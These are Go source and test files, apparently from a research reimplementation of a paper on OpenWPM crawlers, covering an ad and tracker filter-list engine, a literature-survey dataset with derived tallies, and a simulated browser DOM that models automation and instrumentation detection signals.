	if code, _, _ := runMain(t, dir); code != 1 {
		t.Fatalf("fixture should lint dirty before -fix (exit %d)", code)
	}
	code, _, errOut := runMain(t, "-fix", dir)
	if code != 0 {
		t.Fatalf("-fix run: exit %d, want 0 (stderr: %s)", code, errOut)
	}
	if !strings.Contains(errOut, "fixed") {
		t.Errorf("-fix reported nothing fixed: %s", errOut)
	}
	fixed, err := os.ReadFile(target)
	if err != nil {
		t.Fatal(err)
	}
	for _, want := range []string{`"sort"`, "sort.Strings(keys)", "for _, k := range keys {", "v := m[k]", `defer f.End(span, "visit", 0)`} {
		if !strings.Contains(string(fixed), want) {
			t.Errorf("fixed file missing %q:\n%s", want, fixed)
		}
	}
	// after: clean, and a second -fix run is a no-op
	if code, _, _ := runMain(t, dir); code != 0 {
		t.Errorf("fixture still dirty after -fix (exit %d)", code)
	}
	if code, _, errOut := runMain(t, "-fix", dir); code != 0 || strings.Contains(errOut, "fixed") {
		t.Errorf("second -fix run not a no-op (exit %d, stderr: %s)", code, errOut)
	}
}
