package blocklist

import (
	"strings"
	"testing"
	"testing/quick"
)

func TestDomainAnchor(t *testing.T) {
	l := Parse("test", []string{"||ads.example.com^", "||tracker.net^"})
	cases := map[string]bool{
		"https://ads.example.com/banner.js":   true,
		"https://sub.ads.example.com/x":       true,
		"https://example.com/ads.example.com": false, // host must match
		"https://tracker.net/t.gif":           true,
		"https://nottracker.net/t.gif":        false,
		"https://clean.org/":                  false,
	}
	for url, want := range cases {
		if got := l.Match(url); got != want {
			t.Errorf("Match(%q) = %v, want %v", url, got, want)
		}
	}
}

func TestDomainAnchorWithPath(t *testing.T) {
	l := Parse("test", []string{"||cdn.com/ads/"})
	if !l.Match("https://cdn.com/ads/unit.js") {
		t.Error("path anchor should match")
	}
	if l.Match("https://cdn.com/static/unit.js") {
		t.Error("different path should not match")
	}
}

func TestSubstringAndWildcard(t *testing.T) {
	l := Parse("test", []string{"/adframe.", "banner*install"})
	if !l.Match("https://x.com/adframe.html") {
		t.Error("substring rule missed")
	}
	if !l.Match("https://x.com/banner/12/install.js") {
		t.Error("wildcard rule missed")
	}
	if l.Match("https://x.com/install/banner.js") {
		t.Error("wildcard pieces must match in order")
	}
}

func TestExceptionRules(t *testing.T) {
	l := Parse("test", []string{"||ads.com^", "@@||ads.com/allowed/"})
	if !l.Match("https://ads.com/x.js") {
		t.Error("base rule missed")
	}
	if l.Match("https://ads.com/allowed/x.js") {
		t.Error("exception rule ignored")
	}
}

func TestOptionsAndCommentsIgnored(t *testing.T) {
	l := Parse("test", []string{
		"! a comment",
		"",
		"example.com##.ad-slot", // element hiding: skipped
		"||opt.com^$third-party,script",
	})
	if l.Len() != 1 {
		t.Fatalf("rules = %d, want 1", l.Len())
	}
	if !l.Match("https://opt.com/x.js") {
		t.Error("option-carrying rule should match on URL")
	}
}

func TestQuickDomainAnchorNeverMatchesForeignHosts(t *testing.T) {
	f := func(raw string) bool {
		// any URL on a clean host never matches the anchored rule
		host := "clean-host.org"
		path := strings.Map(func(r rune) rune {
			if r >= 'a' && r <= 'z' || r >= '0' && r <= '9' {
				return r
			}
			return 'x'
		}, raw)
		if len(path) > 40 {
			path = path[:40]
		}
		l := Parse("t", []string{"||blocked.com^"})
		return !l.Match("https://" + host + "/" + path)
	}
	if err := quick.Check(f, &quick.Config{MaxCount: 200}); err != nil {
		t.Fatal(err)
	}
}
