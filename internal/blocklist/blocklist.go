// Package blocklist implements an Adblock-Plus-style filter engine (the
// subset EasyList and EasyPrivacy rules use to classify ad and tracker
// requests, Sec. 6.3.2 of the paper): domain anchors (||domain^), plain
// substrings, wildcard patterns, and exception rules (@@).
package blocklist

import "strings"

type ruleKind int

const (
	kindDomainAnchor ruleKind = iota // ||domain^ or ||domain/path
	kindSubstring                    // plain text
	kindWildcard                     // contains '*'
)

type rule struct {
	kind      ruleKind
	domain    string
	path      string // for domain anchors with a path part
	pattern   string
	exception bool
}

// List is a compiled filter list.
type List struct {
	Name  string
	rules []rule
}

// Parse compiles filter lines. Comments (!), element-hiding rules (##) and
// empty lines are skipped.
func Parse(name string, lines []string) *List {
	l := &List{Name: name}
	for _, line := range lines {
		line = strings.TrimSpace(line)
		if line == "" || strings.HasPrefix(line, "!") || strings.Contains(line, "##") {
			continue
		}
		r := rule{}
		if strings.HasPrefix(line, "@@") {
			r.exception = true
			line = line[2:]
		}
		// strip options ($third-party etc.) — the simulation matches on URL
		if i := strings.IndexByte(line, '$'); i >= 0 {
			line = line[:i]
		}
		if line == "" {
			continue
		}
		switch {
		case strings.HasPrefix(line, "||"):
			r.kind = kindDomainAnchor
			rest := strings.TrimSuffix(line[2:], "^")
			if i := strings.IndexByte(rest, '/'); i >= 0 {
				r.domain, r.path = rest[:i], rest[i:]
			} else {
				r.domain = strings.TrimSuffix(rest, "^")
			}
		case strings.Contains(line, "*"):
			r.kind = kindWildcard
			r.pattern = line
		default:
			r.kind = kindSubstring
			r.pattern = line
		}
		l.rules = append(l.rules, r)
	}
	return l
}

// Len reports the number of compiled rules.
func (l *List) Len() int { return len(l.rules) }

// Match reports whether url is blocked by the list (exception rules win).
func (l *List) Match(url string) bool {
	matched := false
	for _, r := range l.rules {
		if !r.matches(url) {
			continue
		}
		if r.exception {
			return false
		}
		matched = true
	}
	return matched
}

func (r rule) matches(url string) bool {
	switch r.kind {
	case kindDomainAnchor:
		host := hostOf(url)
		if host != r.domain && !strings.HasSuffix(host, "."+r.domain) {
			return false
		}
		if r.path == "" {
			return true
		}
		return strings.HasPrefix(pathOf(url), strings.TrimSuffix(r.path, "^"))
	case kindSubstring:
		return strings.Contains(url, r.pattern)
	case kindWildcard:
		return wildcardMatch(url, r.pattern)
	}
	return false
}

// wildcardMatch checks whether url contains the pattern's pieces in order.
func wildcardMatch(url, pattern string) bool {
	parts := strings.Split(pattern, "*")
	pos := 0
	for i, p := range parts {
		if p == "" {
			continue
		}
		idx := strings.Index(url[pos:], p)
		if idx < 0 {
			return false
		}
		if i == 0 && idx != 0 && !strings.HasPrefix(pattern, "*") {
			// anchored first piece must match anywhere for ABP substring
			// semantics — accept any position
		}
		pos += idx + len(p)
	}
	return true
}

func hostOf(url string) string {
	rest := url
	if i := strings.Index(rest, "://"); i >= 0 {
		rest = rest[i+3:]
	}
	if i := strings.IndexByte(rest, '/'); i >= 0 {
		rest = rest[:i]
	}
	return rest
}

func pathOf(url string) string {
	rest := url
	if i := strings.Index(rest, "://"); i >= 0 {
		rest = rest[i+3:]
	}
	if i := strings.IndexByte(rest, '/'); i >= 0 {
		return rest[i:]
	}
	return "/"
}
