// Package study embeds the paper's literature-survey datasets: the 72
// peer-reviewed OpenWPM-based studies of Table 15 (with the derived Table 1
// tallies), the Firefox-integration timeline of Table 14, and the
// prior-measurement comparison rows of Table 11. The rows were transcribed
// from the paper; cells the source table leaves blank default to false.
package study

import "time"

// RunMode is the Table 15 run-mode code.
type RunMode string

// Run modes as abbreviated in Table 15.
const (
	ModeUnspecified RunMode = "u"
	ModeNative      RunMode = "n"
	ModeHeadless    RunMode = "h"
	ModeXvfb        RunMode = "x"
	ModeDocker      RunMode = "d"
	ModeNativeXvfb  RunMode = "n/x"
	ModeNativeHL    RunMode = "n/h"
)

// Study is one row of Table 15.
type Study struct {
	Year   int
	Ref    int
	Venue  string
	Author string
	Mode   RunMode
	VM     bool

	// Measures. "o" cells (measured out of band, e.g. via a proxy) count as
	// not relying on OpenWPM's instrumentation.
	Cookies, HTTP, JS bool
	OutOfBand         bool // at least one 'o' cell

	// Interaction.
	Scrolling, Clicking, Typing bool

	Subpages   bool
	AntiBD     bool // uses anti-bot-detection measures
	MentionsBD bool
}

// Studies is the embedded Table 15 dataset.
var Studies = []Study{
	{Year: 2014, Ref: 2, Venue: "CCS", Author: "Acar", Mode: ModeUnspecified, VM: true, JS: true, OutOfBand: true},
	{Year: 2015, Ref: 69, Venue: "CoSN", Author: "Robinson", Mode: ModeUnspecified, Clicking: true, Typing: true},
	{Year: 2015, Ref: 30, Venue: "NDSS", Author: "Kranch", Mode: ModeUnspecified, VM: true, Cookies: true, OutOfBand: true},
	{Year: 2015, Ref: 7, Venue: "Tech Science", Author: "Altaweel", Mode: ModeHeadless, Cookies: true, HTTP: true},
	{Year: 2015, Ref: 34, Venue: "W2SP", Author: "Fruchter", Mode: ModeUnspecified, Cookies: true, HTTP: true, Clicking: true, Subpages: true},
	{Year: 2016, Ref: 8, Venue: "IFIP AICT", Author: "Andersdotter", Mode: ModeUnspecified, HTTP: true},
	{Year: 2016, Ref: 29, Venue: "CCS", Author: "Englehardt", Mode: ModeXvfb, VM: true, Cookies: true, HTTP: true, JS: true, Subpages: true},
	{Year: 2016, Ref: 84, Venue: "WWW", Author: "Starov", Mode: ModeUnspecified, HTTP: true},
	{Year: 2017, Ref: 61, Venue: "NDSS", Author: "Miramirkhani", Mode: ModeUnspecified, VM: true, HTTP: true, Clicking: true, OutOfBand: true},
	{Year: 2017, Ref: 13, Venue: "PETS", Author: "Brookman", Mode: ModeUnspecified, Cookies: true, HTTP: true, JS: true},
	{Year: 2017, Ref: 66, Venue: "CODASPY", Author: "Reed", Mode: ModeUnspecified, HTTP: true},
	{Year: 2017, Ref: 64, Venue: "IWPE", Author: "Olejnik", Mode: ModeUnspecified, JS: true},
	{Year: 2017, Ref: 57, Venue: "APF", Author: "Maass", Mode: ModeUnspecified, Cookies: true, HTTP: true},
	{Year: 2017, Ref: 55, Venue: "USENIX", Author: "Liu", Mode: ModeHeadless},
	{Year: 2017, Ref: 74, Venue: "Appl. Econ. Letters", Author: "Schmeiser", Mode: ModeUnspecified, HTTP: true},
	{Year: 2018, Ref: 35, Venue: "PETS", Author: "Goldfeder", Mode: ModeUnspecified, HTTP: true, Clicking: true, Typing: true, Subpages: true, MentionsBD: true},
	{Year: 2018, Ref: 28, Venue: "PETS", Author: "Englehardt", Mode: ModeUnspecified, HTTP: true, Cookies: true},
	{Year: 2018, Ref: 10, Venue: "ACM ToIT", Author: "Binns", Mode: ModeHeadless, Cookies: true, HTTP: true},
	{Year: 2018, Ref: 25, Venue: "CCS", Author: "Das", Mode: ModeUnspecified, JS: true},
	{Year: 2018, Ref: 91, Venue: "ACSAC", Author: "Van Acker", Mode: ModeUnspecified, HTTP: true, MentionsBD: true},
	{Year: 2018, Ref: 23, Venue: "AINTEC", Author: "Dao", Mode: ModeUnspecified, HTTP: true},
	{Year: 2019, Ref: 20, Venue: "IRCDL", Author: "Cozza", Mode: ModeUnspecified, Scrolling: true, Clicking: true, Typing: true, Subpages: true},
	{Year: 2019, Ref: 36, Venue: "WorldCIST", Author: "Gomes", Mode: ModeUnspecified, HTTP: true},
	{Year: 2019, Ref: 92, Venue: "ConPro", Author: "van Eijk", Mode: ModeDocker, HTTP: true},
	{Year: 2019, Ref: 83, Venue: "WWW", Author: "Sørensen", Mode: ModeUnspecified, VM: true, HTTP: true, Subpages: true},
	{Year: 2019, Ref: 54, Venue: "EuroS&P", Author: "Liu", Mode: ModeUnspecified, HTTP: true, MentionsBD: true},
	{Year: 2019, Ref: 58, Venue: "CSCW", Author: "Mathur", Mode: ModeUnspecified, HTTP: true, Clicking: true, Subpages: true},
	{Year: 2019, Ref: 59, Venue: "Comput. Comm.", Author: "Mazel", Mode: ModeUnspecified, HTTP: true},
	{Year: 2019, Ref: 6, Venue: "DPM", Author: "Ali", Mode: ModeUnspecified, Cookies: true},
	{Year: 2019, Ref: 73, Venue: "Comp. Secur.", Author: "Samarasinghe", Mode: ModeUnspecified, HTTP: true, MentionsBD: true},
	{Year: 2019, Ref: 56, Venue: "APF", Author: "Maass", Mode: ModeUnspecified, HTTP: true},
	{Year: 2019, Ref: 81, Venue: "RAID", Author: "Solomos", Mode: ModeUnspecified, Scrolling: true, Clicking: true},
	{Year: 2019, Ref: 45, Venue: "ESORICS", Author: "Jonker", Mode: ModeHeadless, Cookies: true, HTTP: true, JS: true, OutOfBand: true, MentionsBD: true},
	{Year: 2019, Ref: 88, Venue: "DPM", Author: "Urban", Mode: ModeUnspecified, Cookies: true, HTTP: true, Subpages: true},
	{Year: 2019, Ref: 71, Venue: "SPW", Author: "Sakamoto", Mode: ModeUnspecified, Cookies: true},
	{Year: 2020, Ref: 31, Venue: "PETS", Author: "Fouad", Mode: ModeUnspecified, HTTP: true, Subpages: true},
	{Year: 2020, Ref: 19, Venue: "PETS", Author: "Cook", Mode: ModeUnspecified, Scrolling: true, AntiBD: true, MentionsBD: true},
	{Year: 2020, Ref: 99, Venue: "PETS", Author: "Yang", Mode: ModeUnspecified, Cookies: true, HTTP: true, JS: true, Scrolling: true, Subpages: true},
	{Year: 2020, Ref: 1, Venue: "PETS", Author: "Acar", Mode: ModeUnspecified, VM: true, HTTP: true, JS: true, Subpages: true, AntiBD: true, MentionsBD: true},
	{Year: 2020, Ref: 48, Venue: "PETS", Author: "Koop", Mode: ModeDocker, Cookies: true, HTTP: true, JS: true, Clicking: true, AntiBD: true},
	{Year: 2020, Ref: 101, Venue: "WWW", Author: "Zeber", Mode: ModeNativeXvfb, VM: true, Cookies: true, HTTP: true, JS: true, AntiBD: true, MentionsBD: true},
	{Year: 2020, Ref: 5, Venue: "WWW", Author: "Ahmad", Mode: ModeUnspecified, HTTP: true, JS: true, MentionsBD: true},
	{Year: 2020, Ref: 4, Venue: "WWW", Author: "Agarwal", Mode: ModeHeadless, VM: true, Cookies: true, HTTP: true, JS: true},
	{Year: 2020, Ref: 87, Venue: "WWW", Author: "Urban", Mode: ModeUnspecified, VM: true, Cookies: true, HTTP: true, JS: true, Scrolling: true, Subpages: true, AntiBD: true, MentionsBD: true},
	{Year: 2020, Ref: 89, Venue: "AsiaCCS", Author: "Urban", Mode: ModeUnspecified, Cookies: true, HTTP: true, Subpages: true},
	{Year: 2020, Ref: 65, Venue: "PAM", Author: "Pouryousef", Mode: ModeUnspecified, HTTP: true},
	{Year: 2020, Ref: 32, Venue: "EuroS&P", Author: "Fouad", Mode: ModeUnspecified, Cookies: true, HTTP: true},
	{Year: 2020, Ref: 79, Venue: "PrivacyCon", Author: "Sivan-Sevilla", Mode: ModeUnspecified, VM: true, Cookies: true, HTTP: true, JS: true, AntiBD: true, MentionsBD: true},
	{Year: 2020, Ref: 41, Venue: "EuroS&P", Author: "Hu", Mode: ModeUnspecified, HTTP: true},
	{Year: 2020, Ref: 21, Venue: "TMA", Author: "Dao", Mode: ModeUnspecified, HTTP: true},
	{Year: 2020, Ref: 82, Venue: "TMA", Author: "Solomos", Mode: ModeUnspecified, Cookies: true, HTTP: true},
	{Year: 2020, Ref: 22, Venue: "GLOBECOM", Author: "Dao", Mode: ModeUnspecified, HTTP: true},
	{Year: 2020, Ref: 27, Venue: "ConPro", Author: "van Eijk", Mode: ModeDocker, Clicking: true},
	{Year: 2021, Ref: 14, Venue: "NDSS", Author: "Calzavara", Mode: ModeUnspecified, Cookies: true, HTTP: true, MentionsBD: true},
	{Year: 2021, Ref: 68, Venue: "PETS", Author: "Rizzo", Mode: ModeUnspecified, VM: true, HTTP: true},
	{Year: 2021, Ref: 43, Venue: "S&P", Author: "Iqbal", Mode: ModeUnspecified, HTTP: true, JS: true, Subpages: true},
	{Year: 2021, Ref: 37, Venue: "IMC", Author: "Goßen", Mode: ModeNative, HTTP: true, Scrolling: true, Clicking: true, Typing: true, MentionsBD: true},
	{Year: 2021, Ref: 85, Venue: "PETS", Author: "Di Tizio", Mode: ModeUnspecified, HTTP: true},
	{Year: 2021, Ref: 40, Venue: "PETS", Author: "Hosseini", Mode: ModeUnspecified, HTTP: true, Subpages: true},
	{Year: 2021, Ref: 95, Venue: "WebSci", Author: "Vekaria", Mode: ModeUnspecified, Cookies: true, HTTP: true, JS: true, Subpages: true},
	{Year: 2021, Ref: 24, Venue: "IEEE TNSM", Author: "Dao", Mode: ModeUnspecified, HTTP: true, Clicking: true},
	{Year: 2021, Ref: 16, Venue: "WWW", Author: "Chen", Mode: ModeUnspecified, Cookies: true, JS: true},
	{Year: 2021, Ref: 67, Venue: "PETS", Author: "Reitinger", Mode: ModeUnspecified, JS: true},
	{Year: 2022, Ref: 15, Venue: "PETS", Author: "Cassel", Mode: ModeUnspecified, Cookies: true, OutOfBand: true, MentionsBD: true},
	{Year: 2022, Ref: 77, Venue: "USENIX", Author: "Siby", Mode: ModeUnspecified, JS: true},
	{Year: 2022, Ref: 44, Venue: "USENIX", Author: "Iqbal", Mode: ModeUnspecified, Cookies: true, HTTP: true, JS: true, Clicking: true, Subpages: true, MentionsBD: true},
	{Year: 2022, Ref: 33, Venue: "PETS", Author: "Fouad", Mode: ModeUnspecified, Cookies: true, HTTP: true, JS: true, Subpages: true},
	{Year: 2022, Ref: 26, Venue: "WWW", Author: "Demir", Mode: ModeNativeHL, VM: true, Cookies: true, HTTP: true, JS: true, Typing: true, Subpages: true, MentionsBD: true},
	{Year: 2022, Ref: 100, Venue: "EuroS&PW", Author: "Yu", Mode: ModeHeadless, Cookies: true, HTTP: true, JS: true},
	{Year: 2022, Ref: 62, Venue: "PETS", Author: "Musa", Mode: ModeUnspecified, HTTP: true, AntiBD: true, MentionsBD: true},
	{Year: 2022, Ref: 72, Venue: "WWW", Author: "Samarasinghe", Mode: ModeUnspecified, VM: true, Cookies: true, HTTP: true, JS: true},
	{Year: 2022, Ref: 12, Venue: "USENIX", Author: "Bollinger", Mode: ModeUnspecified, Cookies: true, HTTP: true, Clicking: true, Subpages: true, MentionsBD: true},
}

// Table1 is the derived tally of Table 1.
type Table1 struct {
	Total int

	MeasuresHTTP    int
	MeasuresCookies int
	MeasuresJS      int
	MeasuresOther   int // automation only: no instrument-based measure

	NoInteraction int
	Clicking      int
	Scrolling     int
	Typing        int

	SubpagesVisited    int
	SubpagesNotVisited int

	BDIgnored   int
	BDDiscussed int
	AntiBD      int

	ModeCounts map[RunMode]int
	VMCount    int
}

// Tally derives Table 1 from the embedded study list.
func Tally() Table1 {
	t := Table1{ModeCounts: map[RunMode]int{}}
	for _, s := range Studies {
		t.Total++
		if s.HTTP {
			t.MeasuresHTTP++
		}
		if s.Cookies {
			t.MeasuresCookies++
		}
		if s.JS {
			t.MeasuresJS++
		}
		if !s.HTTP && !s.Cookies && !s.JS {
			t.MeasuresOther++
		}
		if s.Clicking {
			t.Clicking++
		}
		if s.Scrolling {
			t.Scrolling++
		}
		if s.Typing {
			t.Typing++
		}
		if !s.Clicking && !s.Scrolling && !s.Typing {
			t.NoInteraction++
		}
		if s.Subpages {
			t.SubpagesVisited++
		} else {
			t.SubpagesNotVisited++
		}
		if s.MentionsBD {
			t.BDDiscussed++
		} else {
			t.BDIgnored++
		}
		if s.AntiBD {
			t.AntiBD++
		}
		t.ModeCounts[s.Mode]++
		if s.VM {
			t.VMCount++
		}
	}
	return t
}

// PaperTable1 are the values Table 1 of the paper states, for side-by-side
// comparison with the derived tally.
var PaperTable1 = map[string]int{
	"http": 56, "cookies": 35, "js": 22, "other": 6,
	"no-interaction": 55, "clicking": 11, "scrolling": 8, "typing": 5,
	"subpages-visited": 19, "subpages-not-visited": 53,
	"bd-ignored": 55, "bd-discussed": 17,
}

// Release pairs a Firefox release with the OpenWPM version integrating it
// (Table 14).
type Release struct {
	Firefox     string
	ReleaseDate string // YYYY-MM-DD
	OpenWPM     string // "" when skipped
	Integrated  string // YYYY-MM-DD, "" when skipped
}

// Releases is the Table 14 timeline, newest first.
var Releases = []Release{
	{"104.0", "2022-07-23", "", ""},
	{"101.0", "2022-05-31", "", ""},
	{"100.0", "2022-05-03", "0.20.0", "2022-05-05"},
	{"99.0", "2022-04-05", "", ""},
	{"98.0", "2022-03-08", "0.19.0", "2022-03-10"},
	{"96.0", "2022-01-11", "", ""},
	{"95.0", "2021-12-07", "0.18.0", "2021-12-16"},
	{"91.0", "2021-08-10", "", ""},
	{"90.0", "2021-07-13", "0.17.0", "2021-07-24"},
	{"89.0", "2021-06-01", "0.16.0", "2021-06-10"},
	{"88.0", "2021-04-19", "0.15.0", "2021-05-10"},
	{"87.0", "2021-03-23", "", ""},
	{"86.0.1", "2021-03-11", "0.14.0", "2021-03-12"},
	{"84.0", "2020-12-15", "", ""},
	{"83.0", "2020-11-18", "0.13.0", "2020-11-19"},
	{"81.0", "2020-09-22", "", ""},
	{"80.0", "2020-08-25", "0.12.0", "2020-08-26"},
	{"79.0", "2020-07-28", "", ""},
	{"78.0.1", "2020-07-01", "0.11.0", "2020-07-09"},
	{"78.0", "2020-06-30", "", ""},
	{"77.0", "2020-06-03", "0.10.0", "2020-06-23"},
}

// OutdatedStats computes, over the window from the first Firefox release to
// the last, how many days OpenWPM shipped an outdated Firefox (Sec. 3.2:
// 540 of 780 days, 69%).
func OutdatedStats() (windowDays, outdatedDays int, fraction float64) {
	parse := func(s string) time.Time {
		t, err := time.Parse("2006-01-02", s)
		if err != nil {
			panic("study: bad date " + s)
		}
		return t
	}
	first := parse(Releases[len(Releases)-1].ReleaseDate)
	last := parse(Releases[0].ReleaseDate)
	windowDays = int(last.Sub(first).Hours() / 24)

	// Walk days; OpenWPM is outdated on a day when a newer Firefox exists
	// than the one the then-current OpenWPM integrates. An OpenWPM release
	// integrates the Firefox released on (or just before) its integration
	// date.
	type ev struct {
		day time.Time
		ff  string // a Firefox release became current
		wpm string // OpenWPM integrated this Firefox version
	}
	var events []ev
	for _, r := range Releases {
		events = append(events, ev{day: parse(r.ReleaseDate), ff: r.Firefox})
		if r.OpenWPM != "" {
			events = append(events, ev{day: parse(r.Integrated), wpm: r.Firefox})
		}
	}
	currentFF := ""
	wpmFF := ""
	for day := first; day.Before(last); day = day.AddDate(0, 0, 1) {
		for _, e := range events {
			if e.day.Equal(day) {
				if e.ff != "" {
					currentFF = e.ff
				}
				if e.wpm != "" {
					wpmFF = e.wpm
				}
			}
		}
		if wpmFF != "" && currentFF != wpmFF {
			outdatedDays++
		}
	}
	fraction = float64(outdatedDays) / float64(windowDays)
	return windowDays, outdatedDays, fraction
}

// PriorWebdriverStudy is one comparison row of Table 11.
type PriorWebdriverStudy struct {
	Ref      string
	When     string
	Analysis string
	Corpus   string
	Sites    int
	Percent  float64
}

// Table11Prior holds the paper's Table 11 rows (the prior study and the
// paper's own measurement), against which the simulation's scan is compared.
var Table11Prior = []PriorWebdriverStudy{
	{Ref: "[46] Jueckstock & Kapravelos", When: "2019-10", Analysis: "dynamic", Corpus: "Alexa 50K", Sites: 2756, Percent: 5.51},
	{Ref: "Krumnow et al. (combined)", When: "2020-07", Analysis: "combined", Corpus: "Tranco 100K", Sites: 13989, Percent: 13.99},
	{Ref: "Krumnow et al. (static)", When: "2020-07", Analysis: "static", Corpus: "Tranco 100K", Sites: 11957, Percent: 11.96},
	{Ref: "Krumnow et al. (dynamic)", When: "2020-07", Analysis: "dynamic", Corpus: "Tranco 100K", Sites: 12194, Percent: 12.19},
}
