package study

import "testing"

func TestStudyCount(t *testing.T) {
	if len(Studies) != 72 {
		t.Fatalf("studies = %d, want 72 (Table 1)", len(Studies))
	}
}

func TestTallyApproximatesPaperTable1(t *testing.T) {
	tl := Tally()
	within := func(name string, got, want, tol int) {
		t.Helper()
		if got < want-tol || got > want+tol {
			t.Errorf("%s = %d, want %d ± %d", name, got, want, tol)
		}
	}
	within("HTTP measures", tl.MeasuresHTTP, PaperTable1["http"], 4)
	within("cookie measures", tl.MeasuresCookies, PaperTable1["cookies"], 4)
	within("JS measures", tl.MeasuresJS, PaperTable1["js"], 4)
	within("other", tl.MeasuresOther, PaperTable1["other"], 3)
	within("no interaction", tl.NoInteraction, PaperTable1["no-interaction"], 4)
	within("clicking", tl.Clicking, PaperTable1["clicking"], 3)
	within("scrolling", tl.Scrolling, PaperTable1["scrolling"], 3)
	within("typing", tl.Typing, PaperTable1["typing"], 3)
	within("subpages visited", tl.SubpagesVisited, PaperTable1["subpages-visited"], 3)
	within("BD discussed", tl.BDDiscussed, PaperTable1["bd-discussed"], 3)
	if tl.Total != 72 {
		t.Errorf("total = %d", tl.Total)
	}
	if tl.SubpagesVisited+tl.SubpagesNotVisited != tl.Total {
		t.Error("subpage tallies do not partition the studies")
	}
	if tl.BDIgnored+tl.BDDiscussed != tl.Total {
		t.Error("bot-detection tallies do not partition the studies")
	}
}

func TestOutdatedStats(t *testing.T) {
	window, outdated, frac := OutdatedStats()
	// Sec. 3.2 / Appendix C: 780-day window, outdated 540 days (69%)
	if window < 770 || window > 790 {
		t.Errorf("window = %d days, want ≈ 780", window)
	}
	if outdated < 480 || outdated > 600 {
		t.Errorf("outdated = %d days, want ≈ 540", outdated)
	}
	if frac < 0.60 || frac > 0.78 {
		t.Errorf("fraction = %.2f, want ≈ 0.69", frac)
	}
}

func TestReleasesChronology(t *testing.T) {
	// newest first; every integrated OpenWPM release follows its Firefox
	for i := 1; i < len(Releases); i++ {
		if Releases[i-1].ReleaseDate < Releases[i].ReleaseDate {
			t.Errorf("releases out of order at %d: %s before %s", i, Releases[i-1].Firefox, Releases[i].Firefox)
		}
	}
	for _, r := range Releases {
		if r.OpenWPM != "" && r.Integrated < r.ReleaseDate {
			t.Errorf("OpenWPM %s integrated %s before Firefox release %s", r.OpenWPM, r.Integrated, r.ReleaseDate)
		}
	}
}
