package jsdom

import (
	"fmt"
	"strings"

	"gullible/internal/minjs"
)

// DOM is one realm's browser object model: a window (the realm's global
// object) plus the navigator/screen/document graph and the interface
// prototype objects that instrumentation hooks into.
type DOM struct {
	Cfg  Config
	It   *minjs.Interp
	Host Host
	URL  string

	Window    *minjs.Object
	Navigator *minjs.Object
	Screen    *minjs.Object
	Document  *minjs.Object
	Location  *minjs.Object

	// Interface prototypes, by interface name ("Navigator", "Screen", …).
	Protos map[string]*minjs.Object

	// Frames are the subframes created in this document, in creation order.
	Frames []*DOM
	// Parent is the parent DOM for subframes, nil for top documents.
	Parent *DOM

	// hostListeners receive events delivered through the ORIGINAL native
	// dispatchEvent — this models the extension content script listening on
	// the page. A page that shadows document.dispatchEvent sits between
	// wrapper code and this registry (the Sec. 5.1 attack).
	hostListeners map[string][]func(ev minjs.Value)

	// pageListeners holds addEventListener registrations (never fired by
	// the default crawl — OpenWPM performs no interaction, Table 1).
	pageListeners map[string][]*minjs.Object

	elementsByID map[string]*minjs.Object

	languagesObj *minjs.Object
	webglCtx     *minjs.Object // singleton per realm, nil until first getContext
	ctx2D        *minjs.Object
}

// Build constructs the object model for cfg inside a fresh realm.
func Build(cfg Config, host Host, url string) *DOM {
	it := minjs.New()
	it.NoVM = cfg.DisableVM
	d := &DOM{
		Cfg:           cfg,
		It:            it,
		Host:          host,
		URL:           url,
		Window:        it.Global,
		Protos:        map[string]*minjs.Object{},
		hostListeners: map[string][]func(minjs.Value){},
		pageListeners: map[string][]*minjs.Object{},
		elementsByID:  map[string]*minjs.Object{},
	}
	d.buildPrototypes()
	d.buildNavigator()
	d.buildScreen()
	d.buildWindowProps()
	d.buildDocument()
	d.buildNet()
	d.buildDateIntl()
	return d
}

// proto creates (once) an interface prototype object plus a global
// constructor binding, mirroring how Firefox exposes WebIDL interfaces.
func (d *DOM) proto(name string) *minjs.Object {
	if p, ok := d.Protos[name]; ok {
		return p
	}
	p := minjs.NewObject(d.It.Protos.Object)
	p.Class = name + "Prototype"
	ctor := d.It.NewNative(name, func(it *minjs.Interp, this minjs.Value, args []minjs.Value) (minjs.Value, error) {
		return minjs.Undefined(), it.ThrowError("TypeError", "Illegal constructor")
	})
	ctor.SetNonEnum("prototype", minjs.ObjectValue(p))
	p.SetNonEnum("constructor", minjs.ObjectValue(ctor))
	d.Window.SetNonEnum(name, minjs.ObjectValue(ctor))
	d.Protos[name] = p
	return p
}

// DefineGetter installs a native accessor on proto that brand-checks `this`:
// invoking the getter with a foreign receiver throws TypeError, exactly like
// a WebIDL attribute getter. Instrumentation that replaces such a getter with
// a plain script function loses this behaviour — one of the tells of Sec. 6.1.
func (d *DOM) DefineGetter(proto *minjs.Object, class, name string, get func(this *minjs.Object) minjs.Value) {
	getter := d.It.NewNative("get "+name, func(it *minjs.Interp, this minjs.Value, args []minjs.Value) (minjs.Value, error) {
		if !this.IsObject() || this.Obj.Class != class {
			return minjs.Undefined(), it.ThrowError("TypeError", "'get %s' called on an object that does not implement interface %s", name, class)
		}
		return get(this.Obj), nil
	})
	proto.DefineAccessor(name, getter, nil, true)
}

// DefineMethod installs a native method on proto.
func (d *DOM) DefineMethod(proto *minjs.Object, name string, fn minjs.NativeFunc) {
	proto.SetNonEnum(name, minjs.ObjectValue(d.It.NewNative(name, fn)))
}

func (d *DOM) buildNavigator() {
	it := d.It
	np := d.proto("Navigator")
	nav := minjs.NewObject(np)
	nav.Class = "Navigator"
	d.Navigator = nav

	cfg := d.Cfg
	str := func(s string) func(*minjs.Object) minjs.Value {
		return func(*minjs.Object) minjs.Value { return minjs.String(s) }
	}
	g := func(name string, fn func(*minjs.Object) minjs.Value) {
		d.DefineGetter(np, "Navigator", name, fn)
	}

	g("userAgent", str(cfg.UserAgent))
	g("webdriver", func(*minjs.Object) minjs.Value { return minjs.Boolean(cfg.Automation) })

	// navigator.languages returns a stable array object; in headless mode it
	// carries 43 spurious extra properties (Sec. 3.1.2).
	langs := make([]minjs.Value, len(cfg.Languages))
	for i, l := range cfg.Languages {
		langs[i] = minjs.String(l)
	}
	d.languagesObj = it.NewArrayP(langs...)
	for i := 0; i < cfg.HeadlessLanguageExtras; i++ {
		d.languagesObj.Set(fmt.Sprintf("mozHeadlessLocaleHint%02d", i), minjs.Int(i))
	}
	g("languages", func(*minjs.Object) minjs.Value { return minjs.ObjectValue(d.languagesObj) })
	lang := "en-US"
	if len(cfg.Languages) > 0 {
		lang = cfg.Languages[0]
	}
	g("language", str(lang))

	platform := "Linux x86_64"
	oscpu := "Linux x86_64"
	if cfg.OS == MacOS {
		platform = "MacIntel"
